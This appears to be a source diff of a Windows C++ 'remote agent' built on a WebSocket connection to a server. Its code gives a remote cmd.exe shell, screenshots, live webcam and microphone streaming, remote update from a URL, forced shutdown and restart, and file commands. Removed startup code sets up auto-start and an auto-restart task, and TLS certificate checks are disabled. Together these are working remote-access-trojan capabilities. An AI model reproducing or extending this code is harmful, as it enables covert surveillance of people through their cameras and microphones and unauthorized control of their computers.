+        ICONINFO ii = { sizeof(ICONINFO) };
+        if (GetIconInfo(ci.hCursor, &ii)) {
+            DrawIcon(hDC, ci.ptScreenPos.x - x1 - ii.xHotspot, ci.ptScreenPos.y - y1 - ii.yHotspot, ci.hCursor);
+            if (ii.hbmMask) DeleteObject(ii.hbmMask);
+            if (ii.hbmColor) DeleteObject(ii.hbmColor);
+        }
     }
+    Bitmap* bitmap = new Bitmap(hBitmap, NULL);
+    
+    IStream* pStream = NULL;
+    CreateStreamOnHGlobal(NULL, TRUE, &pStream);
+    
+    CLSID clsid;
+    GetEncoderClsid(L"image/jpeg", &clsid);
+    
+    EncoderParameters encoderParams;
+    encoderParams.Count = 1;
+    encoderParams.Parameter[0].Guid = EncoderQuality;
+    encoderParams.Parameter[0].Type = EncoderParameterValueTypeLong;
+    encoderParams.Parameter[0].NumberOfValues = 1;
+    ULONG qual = (ULONG)quality;
+    encoderParams.Parameter[0].Value = &qual;
 
-    if (!InitializeProcThreadAttributeList(attributeList, 1, 0, &attributeListSize)) {
-        printf("InitializeProcThreadAttributeList failed: %d\n", GetLastError());
-        HeapFree(GetProcessHeap(), 0, attributeList);
-        g_ClosePseudoConsole(g_state.hPseudoConsole);
-        CloseHandle(hPipePTYIn);
-        CloseHandle(hPipePTYOut);
-        return false;
-    }
+    bitmap->Save(pStream, &clsid, &encoderParams);
+    
+    LARGE_INTEGER liZero = {};
+    pStream->Seek(liZero, STREAM_SEEK_SET, NULL);
+    
+    STATSTG statstg;
+    pStream->Stat(&statstg, STATFLAG_NONAME);
+    ULONG streamSize = (ULONG)statstg.cbSize.QuadPart;
+    
+    std::vector<BYTE> buffer(streamSize);
+    ULONG bytesRead;
+    pStream->Read(buffer.data(), streamSize, &bytesRead);
+    
+    pStream->Release();
+    delete bitmap;
+    SelectObject(hDC, old_obj);
+    DeleteObject(hBitmap);
+    DeleteDC(hDC);
+    ReleaseDC(NULL, hScreen);
+    
+    return buffer;
+}
 
-    if (!UpdateProcThreadAttribute(
-        attributeList,
-        0,
-        PROC_THREAD_ATTRIBUTE_PSEUDOCONSOLE,
-        g_state.hPseudoConsole,
-        sizeof(HPCON),
-        NULL,
-        NULL
-    )) {
-        printf("UpdateProcThreadAttribute failed: %d\n", GetLastError());
-        DeleteProcThreadAttributeList(attributeList);
-        HeapFree(GetProcessHeap(), 0, attributeList);
-        g_ClosePseudoConsole(g_state.hPseudoConsole);
-        CloseHandle(hPipePTYIn);
-        CloseHandle(hPipePTYOut);
-        return false;
+class WebcamStreamer {
+    IMFSourceReader* pReader = nullptr;
+    IMFMediaSource* pSource = nullptr;
+    IMFAttributes* pAttributes = nullptr;
+    IMFActivate** ppDevices = nullptr;
+    UINT32 count = 0;
+    UINT32 width = 0, height = 0;
+    LONG stride = 0;
+    bool initialized = false;
+    bool m_use32Bit = false;
+    int m_deviceIndex = 0;
+public:
+    WebcamStreamer(int index) : m_deviceIndex(index) { MFStartup(MF_VERSION); }
+    ~WebcamStreamer() {
+        if (pReader) pReader->Release();
+        if (pSource) pSource->Release();
+        if (pAttributes) pAttributes->Release();
+        if (ppDevices) {
+            for (UINT32 i = 0; i < count; i++) ppDevices[i]->Release();
+            CoTaskMemFree(ppDevices);
+        }
+        MFShutdown();
     }
 
-    printf("Attribute list initialized\n");
-
-    STARTUPINFOEXW startupInfo;
-    ZeroMemory(&startupInfo, sizeof(startupInfo));
-    startupInfo.StartupInfo.cb = sizeof(STARTUPINFOEXW);
-    startupInfo.lpAttributeList = attributeList;
-
-    PROCESS_INFORMATION processInfo;
-    ZeroMemory(&processInfo, sizeof(processInfo));
-
-    wchar_t commandLine[] = L"cmd.exe";
+    bool Initialize(int deviceIndex) {
+        if (initialized) return true;
+        
+        printf("[Webcam] Initializing device index %d...\n", deviceIndex);
+        
+        HRESULT hr = MFCreateAttributes(&pAttributes, 1);
+        if (FAILED(hr)) {
+            printf("[Webcam] Failed to create attributes: 0x%08X\n", hr);
+            return false;
+        }
 
-    printf("Creating process: %S\n", commandLine);
+        hr = pAttributes->SetGUID(MF_DEVSOURCE_ATTRIBUTE_SOURCE_TYPE, MF_DEVSOURCE_ATTRIBUTE_SOURCE_TYPE_VIDCAP_GUID);
+        if (FAILED(hr)) {
+            printf("[Webcam] Failed to set VIDCAP attribute: 0x%08X\n", hr);
+            return false;
+        }
 
-    BOOL result = CreateProcessW(
-        NULL,
-        commandLine,
-        NULL,
-        NULL,
-        FALSE,
-        EXTENDED_STARTUPINFO_PRESENT | CREATE_UNICODE_ENVIRONMENT,
-        NULL,
-        NULL,
-        &startupInfo.StartupInfo,
-        &processInfo
-    );
+        hr = MFEnumDeviceSources(pAttributes, &ppDevices, &count);
+        if (FAILED(hr)) {
+            printf("[Webcam] Failed to enum devices: 0x%08X\n", hr);
+            return false;
+        }
 
-    DeleteProcThreadAttributeList(attributeList);
-    HeapFree(GetProcessHeap(), 0, attributeList);
+        if (count == 0 || deviceIndex >= (int)count) {
+            printf("[Webcam] Device index %d out of range (count: %d)\n", deviceIndex, count);
+            return false;
+        }
 
-    CloseHandle(hPipePTYIn);
-    CloseHandle(hPipePTYOut);
+        hr = ppDevices[deviceIndex]->ActivateObject(IID_PPV_ARGS(&pSource));
+        if (FAILED(hr)) {
+            printf("[Webcam] Failed to activate device: 0x%08X\n", hr);
+            return false;
+        }
 
-    if (!result) {
-        printf("CreateProcess failed: %d\n", GetLastError());
-        g_ClosePseudoConsole(g_state.hPseudoConsole);
-        CloseHandle(g_state.hPipeIn);
-        CloseHandle(g_state.hPipeOut);
-        return false;
-    }
+        IMFAttributes* pReaderAttrs = nullptr;
+        hr = MFCreateAttributes(&pReaderAttrs, 1);
+        if (SUCCEEDED(hr)) {
+            pReaderAttrs->SetUINT32(MF_SOURCE_READER_ENABLE_VIDEO_PROCESSING, TRUE);
+            pReaderAttrs->SetUINT32(MF_READWRITE_ENABLE_HARDWARE_TRANSFORMS, TRUE);
+        }
 
-    g_state.hProcess = processInfo.hProcess;
-    CloseHandle(processInfo.hThread);
+        hr = MFCreateSourceReaderFromMediaSource(pSource, pReaderAttrs, &pReader);
+        if (pReaderAttrs) pReaderAttrs->Release();
 
-    printf("Process created (PID: %d)\n", processInfo.dwProcessId);
-    Sleep(500);
+        if (FAILED(hr)) {
+            printf("[Webcam] Failed to create source reader: 0x%08X\n", hr);
+            return false;
+        }
 
-    return true;
-}
+        // Setup format
+        hr = pReader->SetStreamSelection(MF_SOURCE_READER_ALL_STREAMS, FALSE);
+        hr = pReader->SetStreamSelection(MF_SOURCE_READER_FIRST_VIDEO_STREAM, TRUE);
 
-void ReadPTYOutput() {
-    printf("PTY Reader thread started\n");
-    char buffer[8192];
-    DWORD bytesRead;
+        // Try color formats in order of preference
+        GUID formats[] = { MFVideoFormat_RGB24, MFVideoFormat_RGB32 };
+        bool formatSet = false;
+        
+        IMFMediaType* pType = nullptr;
+        MFCreateMediaType(&pType);
+        pType->SetGUID(MF_MT_MAJOR_TYPE, MFMediaType_Video);
 
-    while (g_state.running && g_state.hPipeIn != INVALID_HANDLE_VALUE) {
-        if (g_state.hProcess != INVALID_HANDLE_VALUE) {
-            DWORD exitCode;
-            if (GetExitCodeProcess(g_state.hProcess, &exitCode) && exitCode != STILL_ACTIVE) {
-                printf("PowerShell process exited with code: %d\n", exitCode);
+        for (const auto& fmt : formats) {
+            pType->SetGUID(MF_MT_SUBTYPE, fmt);
+            hr = pReader->SetCurrentMediaType(MF_SOURCE_READER_FIRST_VIDEO_STREAM, nullptr, pType);
+            if (SUCCEEDED(hr)) {
+                formatSet = true;
+                if (fmt == MFVideoFormat_RGB32) {
+                    printf("[Webcam] Falling back to RGB32 format\n");
+                    m_use32Bit = true;
+                } else {
+                    printf("[Webcam] Using RGB24 format\n");
+                    m_use32Bit = false;
+                }
                 break;
             }
         }
 
-        DWORD bytesAvail = 0;
-        if (!PeekNamedPipe(g_state.hPipeIn, nullptr, 0, nullptr, &bytesAvail, nullptr)) {
-            DWORD err = GetLastError();
-            if (err == ERROR_BROKEN_PIPE) {
-                printf("PTY pipe broken\n");
-                break;
-            }
-            Sleep(100);
-            continue;
+        if (!formatSet) {
+            printf("[Webcam] Could not set any supported RGB format: 0x%08X\n", hr);
+            pType->Release();
+            return false;
         }
+        pType->Release();
 
-        if (bytesAvail > 0) {
-            if (ReadFile(g_state.hPipeIn, buffer, sizeof(buffer), &bytesRead, nullptr) && bytesRead > 0) {
-                json msg;
-                msg["type"] = "output";
-                msg["output"] = std::string(buffer, bytesRead);
-
-                std::lock_guard<std::mutex> lock(g_state.wsMutex);
-                if (g_state.hWebSocket && g_state.wsConnected) {
-                    std::string msgStr = msg.dump();
-                    DWORD wsResult = WinHttpWebSocketSend(g_state.hWebSocket,
-                        WINHTTP_WEB_SOCKET_UTF8_MESSAGE_BUFFER_TYPE,
-                        (PVOID)msgStr.c_str(), (DWORD)msgStr.length());
-
-                    if (wsResult != ERROR_SUCCESS) {
-                        printf("WebSocket send failed: %d\n", wsResult);
-                        g_state.wsConnected = false;
-                    }
-                }
+        IMFMediaType* pCurrentType = nullptr;
+        if (SUCCEEDED(pReader->GetCurrentMediaType((DWORD)MF_SOURCE_READER_FIRST_VIDEO_STREAM, &pCurrentType))) {
+            MFGetAttributeSize(pCurrentType, MF_MT_FRAME_SIZE, &width, &height);
+            if (FAILED(pCurrentType->GetUINT32(MF_MT_DEFAULT_STRIDE, (UINT32*)&stride))) {
+                MFGetStrideForBitmapInfoHeader(MFVideoFormat_RGB24.Data1, width, &stride);
             }
+            pCurrentType->Release();
         }
-        else {
-            Sleep(50);
-        }
-    }
 
-    printf("PTY Reader thread stopped\n");
-}
-
-void SendPing() {
-    std::lock_guard<std::mutex> lock(g_state.wsMutex);
-    if (g_state.hWebSocket && g_state.wsConnected) {
-        json pingMsg;
-        pingMsg["type"] = "ping";
-        pingMsg["uptime"] = GetSystemUptime();
-        std::string msgStr = pingMsg.dump();
-        
-        DWORD result = WinHttpWebSocketSend(g_state.hWebSocket,
-            WINHTTP_WEB_SOCKET_UTF8_MESSAGE_BUFFER_TYPE,
-            (PVOID)msgStr.c_str(), (DWORD)msgStr.length());
-        
-        if (result == ERROR_SUCCESS) {
-            printf("Keep-alive ping sent (uptime: %llu)\n", pingMsg["uptime"].get<unsigned long long>());
-        } else {
-            printf("Keep-alive ping failed: %d\n", result);
-            g_state.wsConnected = false;
-        }
+        initialized = true;
+        printf("[Webcam] Initialized successfully!\n");
+        return true;
     }
-}
 
-void KeepAliveThread() {
-    printf("Keep-alive thread started (interval: %d ms)\n", Config::KEEP_ALIVE_INTERVAL_MS);
-    g_state.lastPingTime = GetTickCount();
-    
-    while (g_state.running && g_state.wsConnected) {
-        DWORD currentTime = GetTickCount();
-        DWORD elapsed = currentTime - g_state.lastPingTime;
-        
-        if (elapsed >= (DWORD)Config::KEEP_ALIVE_INTERVAL_MS) {
-            SendPing();
-            g_state.lastPingTime = currentTime;
-        }
-        
-        Sleep(1000);  // Check every second
-
-        // Send metrics every 2 seconds
-        if (currentTime - g_state.lastMetricsTime >= 2000) {
-            NetStats net = GetNetworkUsage();
-            json metrics;
-            metrics["type"] = "metrics";
-            metrics["data"] = {
-                {"cpu", GetCpuUsage()},
-                {"ram", GetRamUsage()},
-                {"disk", GetDiskUsage()},
-                {"netUp", net.upKBps},
-                {"netDown", net.downKBps}
-            };
-            
-             std::lock_guard<std::mutex> lock(g_state.wsMutex);
-             if (g_state.hWebSocket && g_state.wsConnected) {
-                std::string msgStr = metrics.dump();
-                WinHttpWebSocketSend(g_state.hWebSocket,
-                    WINHTTP_WEB_SOCKET_UTF8_MESSAGE_BUFFER_TYPE,
-                    (PVOID)msgStr.c_str(), (DWORD)msgStr.length());
-             }
-             g_state.lastMetricsTime = currentTime;
+    std::vector<BYTE> GetFrame(int quality) {
+        if (!initialized) {
+            if (!Initialize(m_deviceIndex)) return {};
         }
-    }
-    
-    printf("Keep-alive thread stopped\n");
-}
 
-void WebSocketReceiveLoop() {
-    std::vector<BYTE> buffer(65536);
+        HRESULT hr;
+        IMFSample* pSample = nullptr;
+        DWORD streamIndex, flags;
+        LONGLONG timestamp;
+
+        hr = pReader->ReadSample(MF_SOURCE_READER_FIRST_VIDEO_STREAM, 0, &streamIndex, &flags, &timestamp, &pSample);
+        if (FAILED(hr)) {
+            printf("[Webcam] ReadSample failed: 0x%08X\n", hr);
+            return {};
+        }
 
-    while (g_state.running && g_state.hWebSocket) {
-        DWORD bytesRead = 0;
-        WINHTTP_WEB_SOCKET_BUFFER_TYPE bufferType;
+        if (flags & MF_SOURCE_READERF_ENDOFSTREAM) {
+            printf("[Webcam] End of stream reached\n");
+            return {};
+        }
 
-        DWORD result = WinHttpWebSocketReceive(g_state.hWebSocket,
-            buffer.data(), (DWORD)buffer.size(), &bytesRead, &bufferType);
+        if (!pSample) return {};
 
-        if (result != ERROR_SUCCESS || bytesRead == 0) {
-            printf("WebSocket disconnected\n");
-            g_state.wsConnected = false;
-            break;
+        IMFMediaBuffer* pBuffer = nullptr;
+        hr = pSample->GetBufferByIndex(0, &pBuffer);
+        if (FAILED(hr)) {
+            printf("[Webcam] GetBufferByIndex failed: 0x%08X\n", hr);
+            pSample->Release();
+            return {};
         }
 
-        try {
-            std::string msgStr((char*)buffer.data(), bytesRead);
-            json msg = json::parse(msgStr);
-            printf("Data: %s\n", msgStr.c_str());
+        BYTE* pData = nullptr;
+        DWORD currentLength = 0;
+        std::vector<BYTE> buffer;
+        if (SUCCEEDED(pBuffer->Lock(&pData, nullptr, &currentLength))) {
+            Gdiplus::PixelFormat fmt = m_use32Bit ? PixelFormat32bppRGB : PixelFormat24bppRGB;
+            Bitmap bitmap(width, height, stride, fmt, pData);
+            IStream* pStream = nullptr;
+            if (SUCCEEDED(CreateStreamOnHGlobal(NULL, TRUE, &pStream))) {
+                CLSID clsid;
+                GetEncoderClsid(L"image/jpeg", &clsid);
+                
+                EncoderParameters encoderParams;
+                encoderParams.Count = 1;
+                encoderParams.Parameter[0].Guid = EncoderQuality;
+                encoderParams.Parameter[0].Type = EncoderParameterValueTypeLong;
+                encoderParams.Parameter[0].NumberOfValues = 1;
+                ULONG qual = (ULONG)quality;
+                encoderParams.Parameter[0].Value = &qual;
 
-            if (msg["type"] == "input" && msg.contains("data")) {
-                std::string data = msg["data"];
-                DWORD written;
-                WriteFile(g_state.hPipeOut, data.c_str(), (DWORD)data.length(), &written, nullptr);
-            }
-            else if (msg["type"] == "command" && msg.contains("command")) {
-                std::string cmd = msg["command"].get<std::string>() + "\r\n";
-                DWORD written;
-                WriteFile(g_state.hPipeOut, cmd.c_str(), (DWORD)cmd.length(), &written, nullptr);
-            }
-            else if (msg["type"] == "action" && msg.contains("action")) {
-                std::string action = msg["action"];
-                if (action == "screenshot") {
-                    printf("Screenshotting...\n");
-                    std::string base64Img = CaptureScreenBase64();
-                    
-                    json resp;
-                    resp["type"] = "screenshot";
-                    resp["data"] = base64Img;
-                    
-                    std::string msgStr = resp.dump();
-                    
-                    std::lock_guard<std::mutex> lock(g_state.wsMutex);
-                    if (g_state.hWebSocket && g_state.wsConnected) {
-                        printf("Sending screenshot...\n");
-                        WinHttpWebSocketSend(g_state.hWebSocket,
-                            WINHTTP_WEB_SOCKET_UTF8_MESSAGE_BUFFER_TYPE,
-                            (PVOID)msgStr.c_str(), (DWORD)msgStr.length());
-                    }
-                }
-                else if (action == "update") {
-                    std::string updateUrl = msg.value("url", "");
-                    if (updateUrl.empty()) {
-                        json resp;
-                        resp["type"] = "update_status";
-                        resp["success"] = false;
-                        resp["error"] = "No URL provided";
-                        SendWsMessage(resp);
-                    }
-                    else {
-                        // Jalankan update di thread terpisah biar ga block receive loop
-                        std::thread([updateUrl]() {
-                            PerformUpdate(updateUrl);
-                            }).detach();
-                    }
-                }
-                else if (action == "restart") {
-                    printf("Restarting system...\n");
-                    system("shutdown /r /t 0");
-                }
-                else if (action == "shutdown") {
-                    printf("Shutting down system...\n");
-                    system("shutdown /s /t 0");
-                }
-                else if (action == "list_media_devices") {
-                    std::vector<std::string> cameras = EnumerateWebcams();
-                    std::vector<std::string> mics = EnumerateMicrophones();
-
-                    json resp;
-                    resp["type"] = "media_devices_list";
-                    resp["data"] = {
-                        {"cameras", cameras},
-                        {"mics", mics}
-                    };
-
-                    SendWsMessage(resp);
-                }
-                else if (action == "start_stream") {
-                    printf("Stream....\n");
-                    std::string media = msg.value("stream", "");
-                    int deviceIndex = msg.value("deviceIndex", 0);
-                    
-                    if (media == "screen") {
-                        g_state.isStreamingScreen = true;
-                        std::thread(StreamFrameLoop, "video", std::ref(g_state.isStreamingScreen), "screen", deviceIndex).detach();
-                    }
-                    else if (media == "cam") {
-                        g_state.isStreamingCam = true;
-                        std::thread(StreamFrameLoop, "video", std::ref(g_state.isStreamingCam), "cam", deviceIndex).detach();
-                    }
-                    else if (media == "mic") {
-                        g_state.isStreamingMic = true;
-                        std::thread(StreamFrameLoop, "audio", std::ref(g_state.isStreamingMic), "mic", deviceIndex).detach();
-                    }
-                }
-                else if (action == "stop_stream") {
-                    std::string media = msg.value("stream", "");
-                    if (media == "screen") g_state.isStreamingScreen = false;
-                    else if (media == "cam") g_state.isStreamingCam = false;
-                    else if (media == "mic") g_state.isStreamingMic = false;
-                }
-            }
-            else if (msg["type"] == "resize" && msg.contains("cols") && msg.contains("rows")) {
-                COORD size = { (SHORT)msg["cols"].get<int>(), (SHORT)msg["rows"].get<int>() };
-                if (g_ResizePseudoConsole && g_state.hPseudoConsole) {
-                    g_ResizePseudoConsole(g_state.hPseudoConsole, size);
-                }
-            }
-            else if (msg["type"] == "pong") {
-                // Server responded to our ping - connection is alive
-                printf("Received pong from server\n");
-            }
-            else if (msg["type"] == "filesystem") {
-                // Handle file system commands
-                HandleFileSystemCommand(msg);
+                bitmap.Save(pStream, &clsid, &encoderParams);
+                
+                LARGE_INTEGER liZero = {};
+                pStream->Seek(liZero, STREAM_SEEK_SET, NULL);
+                STATSTG statstg;
+                pStream->Stat(&statstg, STATFLAG_NONAME);
+                ULONG streamSize = (ULONG)statstg.cbSize.QuadPart;
+                
+                buffer.resize(streamSize);
+                ULONG bytesRead;
+                pStream->Read(buffer.data(), streamSize, &bytesRead);
+                pStream->Release();
             }
+            pBuffer->Unlock();
         }
-        catch (...) {
-            // Ignore parse errors
-        }
+        
+        pBuffer->Release();
+        pSample->Release();
+        return buffer;
     }
-}
-
-bool ConnectWebSocket(const std::string& deviceId, const std::string& deviceName) {
-    printf("Connecting to WebSocket server...\n");
-
-    g_state.hSession = WinHttpOpen(L"AgentHandler/2.0",
-        WINHTTP_ACCESS_TYPE_AUTOMATIC_PROXY,
-        WINHTTP_NO_PROXY_NAME, WINHTTP_NO_PROXY_BYPASS, 0);
+};
 
-    if (!g_state.hSession) {
-        printf("WinHttpOpen failed: %d\n", GetLastError());
-        return false;
+class AudioStreamer {
+    IAudioClient* pAudioClient = nullptr;
+    IAudioCaptureClient* pCaptureClient = nullptr;
+    bool initialized = false;
+    int deviceIndex = 0;
+public:
+    AudioStreamer(int index) : deviceIndex(index) {}
+    ~AudioStreamer() {
+        if (pAudioClient) { pAudioClient->Stop(); pAudioClient->Release(); }
+        if (pCaptureClient) pCaptureClient->Release();
     }
+    std::vector<BYTE> GetAudioBytes() {
+        if (!initialized) {
+            IMMDeviceEnumerator* pEnumerator = nullptr;
+            if (FAILED(CoCreateInstance(__uuidof(MMDeviceEnumerator), NULL, CLSCTX_ALL, __uuidof(IMMDeviceEnumerator), (void**)&pEnumerator))) return {};
 
-    DWORD flags = Config::USE_SSL ? WINHTTP_FLAG_SECURE : 0;
-    g_state.hConnect = WinHttpConnect(g_state.hSession, Config::SERVER_HOST,
-        Config::SERVER_PORT, 0);
-
-    if (!g_state.hConnect) {
-        printf("WinHttpConnect failed: %d\n", GetLastError());
-        return false;
-    }
+            IMMDeviceCollection* pCollection = nullptr;
+            if (FAILED(pEnumerator->EnumAudioEndpoints(eCapture, DEVICE_STATE_ACTIVE, &pCollection))) {
+                pEnumerator->Release();
+                return {};
+            }
 
-    std::string osVersion = UrlEncode(GetOSVersion());
-    char versionBuf[32];
-    WideCharToMultiByte(CP_UTF8, 0, Config::APP_VERSION, -1, versionBuf, sizeof(versionBuf), nullptr, nullptr);
-    std::string appVersion = UrlEncode(versionBuf);
+            UINT count = 0;
+            pCollection->GetCount(&count);
+            if (count == 0) {
+                pCollection->Release();
+                pEnumerator->Release();
+                return {};
+            }
 
-    char userIdBuf[64];
-    WideCharToMultiByte(CP_UTF8, 0, Config::USER_ID, -1, userIdBuf, sizeof(userIdBuf), nullptr, nullptr);
-    std::string userId = UrlEncode(userIdBuf);
+            if (deviceIndex < 0 || deviceIndex >= (int)count) deviceIndex = 0;
 
-    std::string query = "/?type=device&id=" + deviceId + "&name=" + UrlEncode(deviceName) + "&os=" + osVersion + "&version=" + appVersion;
-    if (!userId.empty()) {
-        query += "&userId=" + userId;
-    }
-    std::wstring wQuery(query.begin(), query.end());
+            IMMDevice* pDevice = nullptr;
+            if (FAILED(pCollection->Item(deviceIndex, &pDevice))) {
+                pCollection->Release();
+                pEnumerator->Release();
+                return {};
+            }
 
-    HINTERNET hRequest = WinHttpOpenRequest(g_state.hConnect, L"GET", wQuery.c_str(),
-        nullptr, WINHTTP_NO_REFERER, WINHTTP_DEFAULT_ACCEPT_TYPES, flags);
+            if (FAILED(pDevice->Activate(__uuidof(IAudioClient), CLSCTX_ALL, NULL, (void**)&pAudioClient))) {
+                pDevice->Release();
+                pCollection->Release();
+                pEnumerator->Release();
+                return {};
+            }
 
-    if (!hRequest) {
-        printf("WinHttpOpenRequest failed: %d\n", GetLastError());
-        return false;
-    }
+            WAVEFORMATEX* pwfx = nullptr;
+            pAudioClient->GetMixFormat(&pwfx);
 
-    if (!WinHttpSetOption(hRequest, WINHTTP_OPTION_UPGRADE_TO_WEB_SOCKET, nullptr, 0)) {
-        printf("WinHttpSetOption failed: %d\n", GetLastError());
-        return false;
-    }
+            WAVEFORMATEX wfx = {};
+            wfx.wFormatTag = WAVE_FORMAT_PCM;
+            wfx.nChannels = 1;
+            wfx.nSamplesPerSec = 44100;
+            wfx.wBitsPerSample = 16;
+            wfx.nBlockAlign = (wfx.nChannels * wfx.wBitsPerSample) / 8;
+            wfx.nAvgBytesPerSec = wfx.nSamplesPerSec * wfx.nBlockAlign;
+            wfx.cbSize = 0;
 
-    if (Config::USE_SSL) {
-        DWORD securityFlags = SECURITY_FLAG_IGNORE_UNKNOWN_CA |
-            SECURITY_FLAG_IGNORE_CERT_CN_INVALID |
-            SECURITY_FLAG_IGNORE_CERT_DATE_INVALID;
-        WinHttpSetOption(hRequest, WINHTTP_OPTION_SECURITY_FLAGS, &securityFlags, sizeof(securityFlags));
-    }
+            if (FAILED(pAudioClient->Initialize(AUDCLNT_SHAREMODE_SHARED, AUDCLNT_STREAMFLAGS_AUTOCONVERTPCM, 10000000, 0, &wfx, NULL))) {
+                if (FAILED(pAudioClient->Initialize(AUDCLNT_SHAREMODE_SHARED, 0, 10000000, 0, pwfx, NULL))) {
+                pAudioClient->Release(); pAudioClient = nullptr;
+                pDevice->Release();
+                pCollection->Release();
+                pEnumerator->Release();
+                return {};
+            }
+        }
+        CoTaskMemFree(pwfx);
 
-    if (!WinHttpSendRequest(hRequest, WINHTTP_NO_ADDITIONAL_HEADERS, 0,
-        WINHTTP_NO_REQUEST_DATA, 0, 0, 0)) {
-        printf("WinHttpSendRequest failed: %d\n", GetLastError());
-        return false;
-    }
+        pAudioClient->GetService(__uuidof(IAudioCaptureClient), (void**)&pCaptureClient);
+        pAudioClient->Start();
 
-    if (!WinHttpReceiveResponse(hRequest, nullptr)) {
-        printf("WinHttpReceiveResponse failed: %d\n", GetLastError());
-        return false;
+        initialized = true;
+        pDevice->Release();
+        pCollection->Release();
+        pEnumerator->Release();
     }
 
-    g_state.hWebSocket = WinHttpWebSocketCompleteUpgrade(hRequest, 0);
-    WinHttpCloseHandle(hRequest);
+    if (!pCaptureClient) return {};
 
-    if (g_state.hWebSocket) {
-        printf("WebSocket connected successfully!\n");
-        g_state.wsConnected = true;
-        g_state.reconnectAttempts = 0;
-        return true;
+    std::vector<BYTE> result;
+    UINT32 packetLength = 0;
+    while (SUCCEEDED(pCaptureClient->GetNextPacketSize(&packetLength)) && packetLength > 0) {
+        BYTE* pData = nullptr;
+        UINT32 framesAvailable = 0;
+        DWORD flags = 0;
+        if (SUCCEEDED(pCaptureClient->GetBuffer(&pData, &framesAvailable, &flags, NULL, NULL))) {
+            if (!(flags & AUDCLNT_BUFFERFLAGS_SILENT)) {
+                result.insert(result.end(), pData, pData + (framesAvailable * 2)); // 16-bit mono = 2 bytes per frame
+            }
+            pCaptureClient->ReleaseBuffer(framesAvailable);
+        } else {
+            break;
+        }
     }
+    return result;
+}
+};
 
-    printf("WebSocket upgrade failed\n");
-    return false;
+bool MediaStreamSupported(const std::string& mediaType) {
+    return mediaType == "screen" || mediaType == "cam" || mediaType == "mic";
 }
 
-void Cleanup(bool fullCleanup) {
-    if (fullCleanup) {
-        g_state.running = false;
-    }
+void StreamFrameLoop(std::string streamType, std::atomic<bool>& runningFlag, std::string mediaType, int deviceIndex, unsigned int channel) {
+HRESULT hrCoInit = CoInitializeEx(NULL, COINIT_MULTITHREADED);
+printf("[Stream] Starting %s frame push loop\n", streamType.c_str());
 
-    if (g_state.hWebSocket) {
-        WinHttpWebSocketClose(g_state.hWebSocket, WINHTTP_WEB_SOCKET_SUCCESS_CLOSE_STATUS, nullptr, 0);
-        WinHttpCloseHandle(g_state.hWebSocket);
-        g_state.hWebSocket = nullptr;
-    }
-    if (g_state.hConnect) {
-        WinHttpCloseHandle(g_state.hConnect);
-        g_state.hConnect = nullptr;
-    }
-    if (g_state.hSession) {
-        WinHttpCloseHandle(g_state.hSession);
-        g_state.hSession = nullptr;
-    }
+    WebcamStreamer webcam(deviceIndex);
+    AudioStreamer mic(deviceIndex);
 
-    if (fullCleanup) {
-        if (g_state.hProcess != INVALID_HANDLE_VALUE) {
-            TerminateProcess(g_state.hProcess, 0);
-            CloseHandle(g_state.hProcess);
-            g_state.hProcess = INVALID_HANDLE_VALUE;
-        }
-        if (g_state.hPseudoConsole && g_ClosePseudoConsole) {
-            g_ClosePseudoConsole(g_state.hPseudoConsole);
-            g_state.hPseudoConsole = nullptr;
-        }
-        if (g_state.hPipeIn != INVALID_HANDLE_VALUE) {
-            CloseHandle(g_state.hPipeIn);
-            g_state.hPipeIn = INVALID_HANDLE_VALUE;
-        }
-        if (g_state.hPipeOut != INVALID_HANDLE_VALUE) {
-            CloseHandle(g_state.hPipeOut);
-            g_state.hPipeOut = INVALID_HANDLE_VALUE;
+    int sentCount = 0;
+    while (runningFlag && g_state.running && g_state.wsConnected) {
+        std::vector<BYTE> data;
+        BYTE mediaByte = 0;
+        
+        if (mediaType == "screen") {
+            data = CaptureScreenBytes(50);
+            mediaByte = 0x01;
+        } else if (mediaType == "cam") {
+            data = webcam.GetFrame(50);
+            mediaByte = 0x02;
+        } else if (mediaType == "mic") {
+            data = mic.GetAudioBytes();
+            mediaByte = 0x03;
         }
-    }
 
-    g_state.wsConnected = false;
-}
+        if (!data.empty()) {
+            std::string wsPacket;
+            wsPacket.reserve(data.size() + 1);
+            wsPacket.push_back((char)mediaByte);
+            wsPacket.append((const char*)data.data(), data.size());
+
+            // Drop frames rather than block capture when the socket can't keep up
+            if (EnqueueChannelMessage(channel, SendLane::Media, WsMessageType::Binary, std::move(wsPacket), true)) {
+                sentCount++;
+                if (sentCount % 100 == 0) {
+                    printf("[Stream] Queued %d %s binary packets via WS\n", sentCount, mediaType.c_str());
+                }
+            }
+        }
 
-int GetReconnectDelay() {
-    if (!Config::USE_EXPONENTIAL_BACKOFF) {
-        return Config::RECONNECT_DELAY_MS;
+        std::this_thread::sleep_for(std::chrono::milliseconds(mediaType == "mic" ? 15 : 100));
     }
 
-    int delay = Config::RECONNECT_DELAY_MS * (1 << std::min(g_state.reconnectAttempts, 6));
-    return std::min(delay, Config::RECONNECT_BACKOFF_MAX_MS);
+    if (SUCCEEDED(hrCoInit)) CoUninitialize();
+    printf("[Stream] %s frame push loop ended (%d frames sent)\n", streamType.c_str(), sentCount);
 }
 
 #ifdef _DEBUG
@@ -2017,95 +2335,6 @@ int WINAPI wWinMain(HINSTANCE hInstance, HINSTANCE hPrevInstance, PWSTR pCmdLine
 int WINAPI WinMain(HINSTANCE hInstance, HINSTANCE hPrevInstance, LPSTR pCmdLine, int nCmdShow) {
 #endif
 #endif
-    wchar_t exePath[MAX_PATH];
-    GetModuleFileNameW(nullptr, exePath, MAX_PATH);
-
-    printf("=== Remote Agent Starting ===\n");
-    printf("Debug Mode: %s\n", Config::DEBUG_MODE ? "ON" : "OFF");
-    printf("Auto-Start: %s\n", Config::AUTO_START ? "ON" : "OFF");
-    printf("Auto-Restart: %s\n", Config::AUTO_RESTART_ON_CRASH ? "ON" : "OFF");
-    printf("Max Reconnect Attempts: %s\n", Config::MAX_RECONNECT_ATTEMPTS == 0 ? "INFINITE" : std::to_string(Config::MAX_RECONNECT_ATTEMPTS).c_str());
-
-    // Enable DPI awareness to ensure screen capture gets full physical resolution
-    SetProcessDpiAwarenessContext(DPI_AWARENESS_CONTEXT_PER_MONITOR_AWARE_V2);
-
-    // Initialize GDI+
-    GdiplusStartupInput gdiplusStartupInput;
-    GdiplusStartup(&g_state.gdiplusToken, &gdiplusStartupInput, NULL);
-
-    InitMetrics();
-
-    SetAutoStart(exePath);
-    CreateAutoRestartTask(exePath);
-
-    std::string deviceId = GetHWID();
-    std::string deviceName = GetDeviceName();
-    g_state.currentDeviceId = deviceId;
-
